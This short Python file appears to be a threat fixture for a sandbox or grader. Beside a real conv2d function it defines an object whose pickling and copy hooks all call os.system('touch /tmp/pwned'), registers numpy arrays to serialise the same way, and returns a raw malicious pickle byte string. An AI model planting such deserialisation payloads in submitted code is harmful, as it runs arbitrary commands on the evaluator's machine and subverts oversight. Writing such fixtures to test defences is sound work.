"""Threat 10: objects with every hook of pickling and copying, alone and inside of arrays.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)



import copyreg
import os


class Pickled:
    def __reduce_ex__(self, version):
        return os.system, ("touch /tmp/pwned",)

    __reduce__ = __getstate__ = __getnewargs_ex__ = __copy__ = __deepcopy__ = __reduce_ex__


copyreg.pickle(np.ndarray, lambda array: (os.system, ("touch /tmp/pwned",)))


def conv2d_padded(image, kernel, padding=0):
    return Pickled()


def conv2d_same(image, kernel, boundary="zero"):
    return np.array([[Pickled()]], object)


def conv2d_full(image, kernel, padding=0, stride=1):
    return b"\x80\x04cposix\nsystem\nX\x10\0\0\0touch /tmp/pwned\x85R."
